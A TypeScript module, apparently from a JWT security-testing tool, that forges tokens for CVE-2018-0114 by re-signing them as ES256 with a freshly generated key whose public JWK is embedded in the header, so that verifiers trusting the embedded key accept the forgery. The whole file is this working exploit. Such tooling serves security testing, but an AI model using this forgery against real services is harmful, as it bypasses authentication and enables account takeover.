import { generateKey } from '../../crypto/generate-key';
import { signToken } from '../../crypto/sign-token';
import { decodeTextSegment, readHeaderObject, splitJwsSegments } from '../../token/jws-segments';
import type { ForgedToken } from './tamper-attack';

/**
 * Returns the token re-signed as ES256 with a fresh P-256 key pair whose public JWK is put in the
 * header's `jwk` (CVE-2018-0114): a verifier that trusts the embedded key accepts it. The payload's
 * whitespace between tokens is dropped (signToken writes it so); nothing is kept of the key but the
 * public JWK in the header.
 */
export async function forgeEmbeddedJwkToken(token: string): Promise<ForgedToken> {
  const segments = splitJwsSegments(token);
  if (segments === null) return { ok: false, code: 'not-compact-jws' };
  const generated = await generateKey('ES256');
  if (!generated.ok || generated.key.kind !== 'key-pair') return { ok: false, code: 'key-generation-failed' };
  const { publicJwk, privatePem } = generated.key;
  const header = { ...readHeaderObject(segments.header), alg: 'ES256', jwk: publicJwk };
  const signed = await signToken({ headerJson: JSON.stringify(header), payloadJson: decodeTextSegment(segments.payload) ?? '', alg: 'ES256', key: privatePem });
  return signed.ok ? { ok: true, token: signed.token } : { ok: false, code: 'signing-failed' };
}
